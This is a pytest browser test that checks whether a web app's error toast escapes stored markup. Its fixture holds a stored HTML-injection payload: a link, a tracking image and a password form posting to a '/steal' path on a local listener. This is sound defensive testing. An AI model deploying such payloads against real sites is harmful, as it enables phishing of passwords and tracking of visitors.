"""Stored text in an error toast shows as text. The red team stored a metadata name
holding a link, an external image and a password form; another visitor's Bias-tab error toast
(an unknown experiment: the message lists the newest experiments with their metadata types)
rendered all three live, and the image was fetched from the red team's listener."""

from __future__ import annotations

import http.server
import socket
import threading
from pathlib import Path

import pytest

from tests.browser.test_app_browser import WAIT_MS, open_app, open_tab


def _listener():
    """A local HTTP server that records every request path (the 'external' image's host)."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the http.server name
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, port, seen


def _store_with_metadata_name(db: Path, metadata: str) -> None:
    """One complete vanilla run whose metadata type is `metadata` (a visitor's custom name)."""
    from engine.types import Document, Generation, Item, RunSpec
    from store import RunStore

    store = RunStore(db, timeout_s=10)
    item = Item("q1", "question?", ("a",), (Document("d1", "text", True),))
    store.put_items("sha-toast", [item])
    store.start_run(RunSpec("toast-run", "toast-exp", "hash-toast", "model-x", None, "none", "float32", "cpu",
                            "data.jsonl", "sha-toast", metadata, "vanilla", 0, "v1", None, {}, {}, 1))
    store.write_batch("toast-run", [Generation("q1", "prompt", "a [1]", ("d1",), "stop", 3, (), ())])
    store.finish_run("toast-run", "complete")


@pytest.fixture(scope="module")
def listener():
    server, port, seen = _listener()
    yield port, seen
    server.shutdown()


@pytest.fixture(scope="module")
def toast_app(tmp_path_factory, launch_app, listener):
    port, _ = listener
    payload = (f'<a href="http://127.0.0.1:{port}/link">click me</a>'
               f'<img src="http://127.0.0.1:{port}/pixel.png">'
               f'<form action="http://127.0.0.1:{port}/steal"><input type="password" name="pw"></form>')
    db = tmp_path_factory.mktemp("toast-store") / "app.duckdb"
    _store_with_metadata_name(db, payload)
    return launch_app(db), payload


def test_stored_markup_in_an_error_toast_shows_as_text_and_fetches_nothing(page, toast_app, listener):
    app, payload = toast_app
    _, seen = listener
    open_app(page, app)
    panel = open_tab(page, "Bias")
    panel.get_by_label("experiment (id or name)").fill("no-such-experiment")
    panel.get_by_role("button", name="Show bias").click()
    toast = page.locator(".toast-body").filter(has_text="no experiment").first
    toast.wait_for(timeout=WAIT_MS)
    text = toast.inner_text()
    # The stored name, character for character, as text: nothing of it became an element.
    assert payload in text, text
    assert toast.locator("img, a, form, input").count() == 0
    page.wait_for_timeout(1500)  # time for an image request to arrive, had one been made
    assert seen == [], seen
